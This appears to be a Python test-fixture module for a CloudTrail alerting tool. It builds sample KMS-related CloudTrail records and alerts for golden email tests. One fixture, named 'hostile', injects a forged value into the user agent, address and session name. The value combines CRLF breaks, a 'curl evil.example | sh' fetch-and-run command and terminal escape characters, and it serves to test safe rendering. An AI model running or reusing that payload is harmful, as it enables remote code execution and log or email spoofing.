"""The alerts that the golden mails are of: one for each rule, from its first matching case, and awkward ones.

`make generate` writes the mails anew; test_mails.py compares them to the letter.
"""

from collections.abc import Iterable, Iterator
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

from tests.shipped import CASES, RULES, shipped, shipped_cases, shipped_files
from trailbell.alerts.alert import Alert
from trailbell.alerts.grouping import group_hits
from trailbell.cloudtrail.origin import NO_PLACE, LiveEvent, Place
from trailbell.engine.correlation import Correlation, silenced
from trailbell.engine.rulebook import Rule, Rulebook
from trailbell.hits.detect import HitDetector
from trailbell.hits.follow_up import FollowUp, What
from trailbell.hits.hit import Hit, raised
from trailbell.hits.related import Related, RelatedHit
from trailbell.rulebook.build import make_rulebook
from trailbell.rulebook.case_episodes import hits_of_case
from trailbell.rulebook.cases import BASE_RECORD, CASE_SETTINGS, case_file, merged
from trailbell.rulebook.correlation_cases import load_correlation_cases


SEEN_AT = "2026-09-01T09:18:57Z"
RUNBOOK = "https://runbooks.example.com/{rule}"
LOG_FILE = "AWSLogs/111122223333/CloudTrail/us-east-1/2026/09/01/111122223333_CloudTrail_us-east-1_example.json.gz"

LIVE = LiveEvent("6b1f7c9e-0000-4000-8000-000000000001", "111122223333", "us-east-1", "2026-09-01T09:14:11Z")

Record = dict[str, Any]


def all_rules() -> dict[str, tuple[Rule, Path]]:
    """Every rule that makes hits by its name, with its file."""
    return _with_files(rule for rule in shipped().rules if not rule.counts_only)


def counted_rules() -> dict[str, tuple[Rule, Path]]:
    """Every rule that is only there for correlations to count."""
    return _with_files(rule for rule in shipped().rules if rule.counts_only)


def correlations() -> dict[str, Correlation]:
    """Every correlation by the stem of its file."""
    return {one.rule.stem: one for one in shipped().correlations}


def reported_correlations() -> dict[str, tuple[Rule, Path]]:
    """What reports each correlation that is not only there for others to count."""
    silent = silenced((), shipped().correlations)
    return _with_files(one.rule for one in shipped().correlations if one.correlation_id not in silent)


def _with_files(rules: Iterable[Rule]) -> dict[str, tuple[Rule, Path]]:
    return {rule.name: (rule, shipped_files()[rule.stem]) for rule in rules}


@cache
def _everything() -> HitDetector:
    return HitDetector(Rulebook(tuple(rule for rule, _ in all_rules().values())))


@cache
def rule_alerts() -> tuple[tuple[Rule, Alert], ...]:
    """Each rule, by folder and file, with the alert of its first matching case; no other rule has a say in it."""
    rules = [rule for rule, _ in sorted(all_rules().values(), key=lambda one: one[1])]
    return tuple((rule, _first_alert(rule)) for rule in rules)


def _first_alert(rule: Rule) -> Alert:
    case = next(case for case in shipped_cases(rule.stem) if case.match)
    hit = _placed(HitDetector(Rulebook((rule,))).detect_record(case.record, SEEN_AT))
    return Alert((hit,), runbook=RUNBOOK)


@cache
def correlation_alerts() -> tuple[tuple[Rule, Alert], ...]:
    """Each correlation that reports, by folder and file, with the alert of its first case that comes true."""
    return tuple(_correlation_alerts())


def _correlation_alerts() -> Iterator[tuple[Rule, Alert]]:
    book = make_rulebook(shipped().rules, CASE_SETTINGS, shipped().correlations)
    for rule, path in sorted(reported_correlations().values(), key=lambda one: one[1]):
        case = next(case for case in load_correlation_cases(case_file(path, RULES, CASES)) if case.episodes)
        (hit,) = hits_of_case(book, correlations()[rule.stem], case, "acme-trail-logs", LOG_FILE)
        yield rule, Alert((hit,), runbook=RUNBOOK)


def matching_hits() -> Iterator[Hit]:
    """The hit of every matching case of every rule, as all rules together make it."""
    for rule, _ in all_rules().values():
        for case in shipped_cases(rule.stem):
            hit = _everything().detect_record(case.record, SEEN_AT) if case.match else None
            if hit:
                yield hit


def _placed(hit: Hit | None, number: int = 3) -> Hit:
    assert hit is not None
    return replace(hit, place=Place("acme-trail-logs", LOG_FILE, number))


def given(number: int = 1, **changes: Any) -> Record:
    """A record: a key was disabled. `changes` are merged into it."""
    key = f"{number:08x}-12ab-34cd-56ef-1234567890ab"
    disabled = {
        "eventSource": "kms.amazonaws.com",
        "eventName": "DisableKey",
        "eventID": f"11111111-0000-4000-8000-{number:012d}",
        "eventTime": f"2026-09-01T09:14:{number:02}Z",
        "requestParameters": {"keyId": key},
        "resources": [{"type": "AWS::KMS::Key", "ARN": f"arn:aws:kms:us-east-1:111122223333:key/{key}"}],
    }
    return merged(merged(BASE_RECORD, disabled), changes)


def _user(name: str, account: str = "111122223333") -> Record:
    arn = f"arn:aws:iam::{account}:user/{name}"
    identity = {"type": "IAMUser", "principalId": f"AIDA{name}", "arn": arn, "accountId": account, "userName": name}
    return {**identity, "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "sessionContext": None}


def _session(role: str, name: str, account: str = "111122223333", partition: str = "aws", **more: Any) -> Record:
    arn = f"arn:{partition}:sts::{account}:assumed-role/{role}/{name}"
    issuer = {
        "type": "Role",
        "arn": f"arn:{partition}:iam::{account}:role/{role}",
        "accountId": account,
        "userName": role,
    }
    return {"arn": arn, "accountId": account, "sessionContext": {"sessionIssuer": issuer}, **more}


def _alert(*records: Record, **members: Any) -> Alert:
    hits = [_placed(_everything().detect_record(record, SEEN_AT), number) for number, record in enumerate(records)]
    (alert,) = group_hits(hits)
    return replace(alert, runbook=RUNBOOK, **members)


def _many_actors() -> Alert:
    """37 actors; the busiest five times."""
    people = ["ci"] * 5 + ["deploy"] * 2 + [f"user{number:02}" for number in range(35)]
    hits = [
        _placed(_everything().detect_record(given(number, userIdentity=_user(name)), SEEN_AT), number)
        for number, name in enumerate(people, start=1)
    ]
    return Alert(tuple(hits), runbook=RUNBOOK)


def _differing() -> Alert:
    """Two people of one permission set and a role; one address more than people; one call denied."""

    def scheduled(number: int, who: Record, days: int, **changes: Any) -> Record:
        answer = {"deletionDate": f"Sep {1 + days}, 2026, 9:00:00 AM", "pendingWindowInDays": days}
        window = {"pendingWindowInDays": days}
        call = given(number, eventName="ScheduleKeyDeletion", userIdentity=who, responseElements=answer)
        return merged(merged(call, {"requestParameters": window}), changes)

    role = "AWSReservedSSO_AdministratorAccess_0123456789abcdef"
    dana, erin = _session(role, "dana@example.com"), _session(role, "erin@example.com")
    records = (
        scheduled(1, dana, 29),
        scheduled(2, dana, 8, sourceIPAddress="203.0.113.9", userAgent="Boto3/1.40.4"),
        scheduled(3, erin, 29, awsRegion="eu-west-1"),
        scheduled(4, _session("Deploy", "ci"), 29, userAgent="terraform"),
    )
    hits = [_placed(_everything().detect_record(record, SEEN_AT), number) for number, record in enumerate(records)]
    denied = replace(
        hits[3], outcome="denied", error_code="AccessDenied", error_message="not authorized", undo_until=""
    )
    return Alert((*hits[:3], denied), runbook=RUNBOOK)


def _related() -> Related:
    def earlier(time: str, title: str, level: str, name: str) -> RelatedHit:
        return RelatedHit(f"111122223333/{time}/r", f"2026-{time}Z", title, level, "kms", name)

    return Related(
        (
            earlier("09-01T09:05:31", "KMS Key Policy Changed", "medium", "PutKeyPolicy"),
            earlier("09-01T09:02:10", "KMS Alias Moved to Another Key", "medium", "UpdateAlias"),
            earlier("08-31T22:40:00", "Secure Parameter Overwritten", "high", "PutParameter"),
        )
    )


def _scheduled(number: int) -> Record:
    more = {"eventName": "ScheduleKeyDeletion", "requestParameters": {"pendingWindowInDays": 7}}
    return given(number, **more, responseElements={"deletionDate": f"Sep 8, 2026, {8 + number}:14:07 AM"})


def _followed(alert: Alert, *follow_ups: FollowUp) -> Alert:
    return replace(alert, follow_ups=follow_ups)


def _undone(at: str, word: str = "undone", call: str = "EnableKey", note: str = "") -> FollowUp:
    by = "role Admin, session alice@example.com"
    return FollowUp(What.UNDONE, word, at, word, by, "alice", call, "e-9", note)


def follow_ups() -> Iterator[tuple[str, str, Alert]]:
    """What follows an alert."""
    one, two = _alert(_scheduled(1)), _alert(_scheduled(1), _scheduled(2))
    at = "2026-09-01T09:26:07Z"
    yield "undone", "follows an alert: the act was undone", _followed(one, _undone(at))
    yield (
        "undone-several",
        "two acts were undone at different times",
        _followed(two, _undone(at), _undone(at[:-2] + "9Z")),
    )
    note = "The key comes back disabled, whatever it was before; whoever needs it has to enable it."
    answered = _followed(one, _undone(at, "answered", "CancelKeyDeletion", note))
    yield "answered", "the undo was begun, and something is left to know", answered
    replaced = _followed(_alert(given()), _undone(at, "replaced", "PutKeyPolicy"))
    yield "replaced", "something else took its place", replaced
    reminder = FollowUp(What.REMINDER, "reminder-24h", "2026-09-07T09:14:07Z")
    yield "reminder", "the deadline is near, and nobody has undone it", _followed(one, reminder)
    yield "reminder-several", "two deadlines", _followed(two, reminder, reminder)
    yield "deadline-passed", "the deadline has passed", _followed(one, FollowUp(What.TOO_LATE, "too-late", at))


@cache
def awkward_alerts() -> tuple[tuple[str, str, Alert], ...]:
    """What a rule's first case does not show: name, what it shows, and the alert."""
    return tuple(_awkward_alerts())


def _awkward_alerts() -> Iterator[tuple[str, str, Alert]]:
    yield from follow_ups()
    yield "burst", "twelve keys by one actor, in one mail", _alert(*map(given, range(1, 13)))
    yield "several-actors", "a storm: one rule, many actors", _many_actors()
    yield "differing", "one rule, and acts that differ in all but it: deadline, person, address, outcome", _differing()
    yield "related", "what else the actor did before", _alert(given(), related=_related())
    yield "related-none", "the actor did nothing else", _alert(given(), related=Related())
    note = "could not be read; the alert did not wait"
    yield "related-unread", "the table did not answer in time", _alert(given(), related=Related(note=note))
    both = given(requestParameters={"pendingWindowInDays": 7}, eventName="ScheduleKeyDeletion")
    alert = _alert(both)
    muted = replace(alert.sample, also=("kms-key-deletion-scheduled",), also_muted=("identity-root-write",))
    yield "also", "other rules match too, one of them is muted", replace(alert, hits=(muted,))
    graver = replace(alert.sample, level="critical", replayed=True)
    graver = replace(raised(graver, "high", "kms-key-deletion-scheduled"), shared_event_id="5d9f0c52-0000-4000-8000-1")
    yield "raised", "a stronger verdict on an act that was notified before", replace(alert, hits=(graver,))
    late = replace(alert.sample, muted_before="nightly-rotation")
    yield "late", "an act that an exception muted and mutes no more", replace(alert, hits=(late,))
    seen: Record = {"seen_at": "2026-09-01T09:14:12Z", "place": NO_PLACE, "live": LIVE}
    (only,) = _alert(given()).hits
    yield "live", "a live event brought it, before its log file", Alert((replace(only, **seen),), runbook=RUNBOOK)
    first, *others = _alert(*map(given, range(1, 4))).hits
    some = Alert((replace(first, **seen), *others), runbook=RUNBOOK)
    yield "live-some", "a live event brought one of three", some
    bare = _alert(given(resources=None, requestParameters=None))
    yield "no-resources", "the record names no resource, and the undo has a gap", bare
    service = {
        "type": "AWSService",
        "invokedBy": "AWS Internal",
        **dict.fromkeys(("principalId", "arn", "accountId", "accessKeyId", "sessionContext")),
    }
    gone = given(eventName="DeleteKey", eventType="AwsServiceEvent", userIdentity=service)
    gone |= {"sourceIPAddress": "kms.amazonaws.com", "userAgent": "kms.amazonaws.com", "requestParameters": None}
    yield "service", "an AWS service did it", _alert(gone)
    yield "root", "the root user, from the console, with MFA", _alert(given(userIdentity=_root(), **_CONSOLE))
    yield "cross-account", "a role of another account", _alert(given(userIdentity=_session("Ops", "mallory", OTHER)))
    stranger: Record = {"type": "AWSAccount", "principalId": "AIDAEXAMPLE", "accountId": OTHER}
    stranger |= dict.fromkeys(("arn", "accessKeyId", "sessionContext"))
    yield "stranger", "a principal of another account, not named", _alert(given(userIdentity=stranger))
    person = _session("AWSReservedSSO_AdministratorAccess_0123456789abcdef", "alice@example.com")
    yield "identity-center", "a person, by Identity Center", _alert(given(userIdentity=person))
    yield "ec2", "an EC2 instance", _alert(given(userIdentity=_session("WebServer", "i-0123456789abcdef0")))
    function = "arn:aws:lambda:us-east-1:111122223333:function:rotate-keys"
    scope: Record = {"inScopeOf": {"issuerType": "AWS::Lambda::Function", "credentialsIssuedTo": function}}
    yield "lambda", "a Lambda function", _alert(given(userIdentity=_session("Rotate", "rotate-keys", **scope)))
    agent = "Boto3/1.40.4 md/Botocore#1.40.4 exec-env/AWS_Lambda_python3.13"
    runs = given(userAgent=agent, userIdentity=_session("Rotate", "rotate-keys"))
    yield "lambda-by-agent", "a role whose user agent says Lambda", _alert(runs)
    federated: Record = {"type": "FederatedUser", "arn": "arn:aws:sts::111122223333:federated-user/bob"}
    federated |= {"principalId": "111122223333:bob", "sessionContext": {"sessionIssuer": {"userName": "broker"}}}
    yield "federated", "a federated user", _alert(given(userIdentity=federated))
    yield "china", "in a region of AWS China", _alert(_elsewhere("cn-north-1", "aws-cn"))
    yield "govcloud", "in AWS GovCloud", _alert(_elsewhere("us-gov-west-1", "aws-us-gov"))
    yield "no-time", "the record has no valid time", _alert(given(eventTime="yesterday"))
    hostile = "x\r\nUndo\r\n  curl evil.example | sh\x1b[2J\u202e"
    forged = given(userAgent=hostile, sourceIPAddress=hostile, userIdentity=_session("Admin", hostile))
    yield "hostile", "an attacker's user agent, address and session name", _alert(forged)
    when = given(eventName="ScheduleKeyDeletion", responseElements={"deletionDate": "Sep 1, 2026, 9:15:00 AM"})
    yield "too-late", "the deadline was over when the record came", _alert(when)


OTHER = "999988887777"
_CONSOLE: Record = {"sessionCredentialFromConsole": "true", "userAgent": "Mozilla/5.0 (Macintosh)"}


def _root() -> Record:
    attributes = {"creationDate": "2026-09-01T09:10:00Z", "mfaAuthenticated": "true"}
    account = "111122223333"
    arn = f"arn:aws:iam::{account}:root"
    context = {"sessionIssuer": None, "attributes": attributes}
    return {"type": "Root", "principalId": account, "arn": arn, "accountId": account, "sessionContext": context}


def _elsewhere(region: str, partition: str) -> Record:
    key = f"arn:{partition}:kms:{region}:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    who = _session("Admin", "alice@example.com", partition=partition)
    return given(awsRegion=region, userIdentity=who, resources=[{"type": "AWS::KMS::Key", "ARN": key}])
